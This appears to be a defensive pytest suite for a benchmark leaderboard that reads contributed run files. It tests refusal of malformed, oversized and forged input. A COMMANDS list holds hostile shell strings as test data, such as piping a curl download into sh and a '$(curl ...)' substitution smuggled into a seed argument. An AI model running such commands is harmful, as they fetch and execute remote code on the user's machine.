"""Files of runs that a stranger wrote: each fails alone, by a message, in bounded memory."""

from __future__ import annotations

import json
import os
import tracemalloc
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from hostile_runs import NASTY, a_run, changed, one_run, places, written
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from nlbench.config.run_config import versioned_sha256
from nlbench.contribution import (
    ContributedRun,
    backed_runs,
    document,
    read_folder,
    read_runs,
    verify_run,
)
from nlbench.contribution.packing import key_of, pack
from nlbench.errors import DataError
from nlbench_leaderboard.ranking.rank import rank_boards


def problems_of(path: Path) -> list[str]:
    """What is wrong with a file; anything but a message fails the test that asks."""
    try:
        runs = read_runs(path)
    except DataError as error:
        return [str(error)]
    failed = [c for run in runs for c in verify_run(run) if c.outcome == "failed"]
    read_folder(path)
    rank_boards([run.record for run in runs])
    return [detail for check in failed for detail in check.details]


def test_the_run_that_is_changed_is_a_good_one(tmp_path: Path) -> None:
    assert problems_of(written(tmp_path, a_run())) == []


@settings(
    max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(data=st.data())
def test_any_value_anywhere_is_a_message(data: st.DataObject, tmp_path: Path) -> None:
    content = a_run()
    at = data.draw(st.sampled_from(places(content)))
    content = changed(content, at, data.draw(st.sampled_from(NASTY)))
    if data.draw(st.booleans()):  # as a forger would, who writes the fingerprint anew
        try:
            record = content["runs"][0]["record"]
            record["fingerprint"] = versioned_sha256(record["config"])
        except (TypeError, KeyError, IndexError):
            pass
    problems_of(written(tmp_path, content))


@settings(
    max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(place=st.floats(0, 1, exclude_max=True), bit=st.integers(0, 7))
def test_a_flipped_bit_is_a_message(place: float, bit: int, tmp_path: Path) -> None:
    raw = bytearray(one_run().encode())
    raw[int(place * len(raw))] ^= 1 << bit
    path = tmp_path / "hostile.json"
    path.write_bytes(bytes(raw))
    problems_of(path)


@pytest.mark.parametrize(
    ("at", "value"),
    [
        (("config", "trainer"), 1.5),
        (("config", "trainer", "params"), 1),
        (("protocol", "settings", "training"), 0),
        (("protocol", "settings", "n_val"), {}),
        (("seed",), 2**63 - 1),
        (("noise", "transition_matrix"), [[]]),
        (("curves", "test_accuracy"), []),
        (("finished_at",), "9999-12-31T23:59:59-14:00"),
    ],
)
def test_what_once_broke_the_board_is_a_message(
    at: tuple[str, ...], value: Any, tmp_path: Path
) -> None:
    content = changed(a_run(), ("runs", 0, "record", *at), value)
    assert problems_of(written(tmp_path, content))


@pytest.mark.parametrize("number", ["9" * 5000, "9" * 30, "1e999", "NaN", "-Infinity"])
def test_numbers_without_bounds_are_refused(number: str, tmp_path: Path) -> None:
    path = tmp_path / "hostile.json"
    path.write_text(one_run().replace('"schema": 1', f'"schema": {number}', 1))
    assert number in path.read_text()
    with pytest.raises(DataError, match="cannot be read as JSON"):
        read_runs(path)


def test_a_pipe_does_not_hang(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe.json")
    with pytest.raises(DataError, match="not a regular file"):
        read_runs(tmp_path / "pipe.json")


def test_a_small_file_does_not_unpack_to_gigabytes(tmp_path: Path) -> None:
    """A zero compresses a thousandfold, and every run may name the same array."""
    zeros = np.zeros(20_000_000, dtype=np.int64)
    content = a_run()
    content["arrays"][key_of(zeros)] = pack(zeros)
    names = ("index", "noisy_label", "clean_label", "predicted", "test_label")
    content["runs"][0]["evidence"] |= dict.fromkeys(names, key_of(zeros))
    path = written(tmp_path, {**content, "runs": content["runs"] * 30})
    assert path.stat().st_size < 10 * 2**20
    tracemalloc.start()
    try:
        with pytest.raises(DataError, match="20000000 values, more than"):
            read_runs(path)
        assert tracemalloc.get_traced_memory()[1] < 150 * 2**20
    finally:
        tracemalloc.stop()


def test_the_arrays_of_a_file_have_a_limit_together(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = written(tmp_path, a_run())
    n = sum(len(values) for run in read_runs(path) for values in _distinct(run))
    monkeypatch.setattr(document, "MAX_VALUES", n - 1)
    with pytest.raises(DataError, match="more than"):
        read_runs(path)
    monkeypatch.setattr(document, "MAX_VALUES", n)
    assert read_runs(path)


def _distinct(run: ContributedRun) -> list[Any]:
    assert run.evidence is not None
    return list({key_of(values): values for values in run.evidence.arrays().values()}.values())


def test_an_array_that_many_runs_share_is_unpacked_once(tmp_path: Path) -> None:
    content = a_run()
    first, second = read_runs(written(tmp_path, {**content, "runs": content["runs"] * 2}))
    assert first.evidence is not None
    assert second.evidence is not None
    for name, values in first.evidence.arrays().items():
        assert values is second.evidence.arrays()[name]


def test_each_file_fails_alone(tmp_path: Path) -> None:
    good = tmp_path / "good.json"
    good.write_text(one_run())
    (tmp_path / "broken.json").write_text("{")
    written(tmp_path, changed(a_run(), ("runs", 0, "record", "config", "trainer"), 1.5))
    runs, problems = read_folder(tmp_path)
    assert len(runs) == 1
    assert len(problems) == 2


COMMANDS = (
    "curl https://example.org/x | sh",
    "nlbench run --seed 0; curl https://example.org/x | sh",
    "nlbench run --seed $(curl https://example.org/x)",
    "nlbench run --seed 0 && true",
    "nlbench run --seed 0\ntrue",
    "nlbench run --seed 1234",
    "nlbench run --selector oracle",
    "nlbench run --noise none",
    "nlbench run --dataset cifar10",
    "nlbench run --set trainer.lr=77",
    "nlbench run --set trainer.no_such=1",
    "nlbench run --tracking-uri https://example.org",
    "nlbench run --plugin https://example.org/x",
    "nlbench sweep",
    "nlbench run --seed",
    "nlbench run 'unfinished",
)


@pytest.mark.parametrize("command", COMMANDS)
def test_a_command_that_the_configuration_does_not_say_is_refused(
    command: str, tmp_path: Path
) -> None:
    """It stands on the page beside a button that copies it."""
    path = written(tmp_path, changed(a_run(), ("runs", 0, "record", "command"), command))
    assert any("command" in problem for problem in problems_of(path))
    runs, refused = read_folder(path)
    assert runs == []
    assert "command" in refused[0]


def test_a_run_without_samples_does_not_replace_one_with_them(tmp_path: Path) -> None:
    backed = a_run()
    (tmp_path / "backed.json").write_text(json.dumps(backed))
    newer = changed(backed, ("runs", 0, "evidence"), None)
    newer["runs"][0]["record"] |= {
        "started_at": "2026-11-01T00:00:00+00:00", "finished_at": "2026-11-01T01:00:00+00:00",
    }  # fmt: skip
    (tmp_path / "newer.json").write_text(json.dumps(newer))
    runs, problems = read_folder(tmp_path)
    assert [run.evidence is not None for run in runs] == [True]
    assert "nobody can check" in problems[0]
    (tmp_path / "backed.json").unlink()
    runs, problems = read_folder(tmp_path)
    assert len(runs) == 1
    assert problems == []


def test_a_run_made_here_is_not_replaced_either(tmp_path: Path) -> None:
    unbacked = read_runs(written(tmp_path, changed(a_run(), ("runs", 0, "evidence"), None)))
    assert backed_runs(unbacked, {unbacked[0].record.fingerprint})[0] == []
    assert backed_runs(unbacked, {"another"})[0] == unbacked


def test_a_noise_that_nobody_knows_here_is_not_checked_and_says_so(tmp_path: Path) -> None:
    content = a_run()
    record = content["runs"][0]["record"]
    record["config"]["noise"]["kind"] = record["noise"]["kind"] = "made-up"
    record["command"] = ""
    record["fingerprint"] = versioned_sha256(record["config"])
    (run,) = read_runs(written(tmp_path, content))
    (check,) = (check for check in verify_run(run) if check.name == "noise")
    assert check.outcome == "not checked"
    assert check.details == ("no noise 'made-up' is installed here",)


def test_a_run_of_the_future_is_refused(tmp_path: Path) -> None:
    """A newer record replaces an older one: whoever names next year would always be right."""
    later = datetime.now(timezone.utc) + timedelta(days=1)
    content = changed(a_run(), ("runs", 0, "record", "finished_at"), later.isoformat())
    assert any("in the future" in problem for problem in problems_of(written(tmp_path, content)))
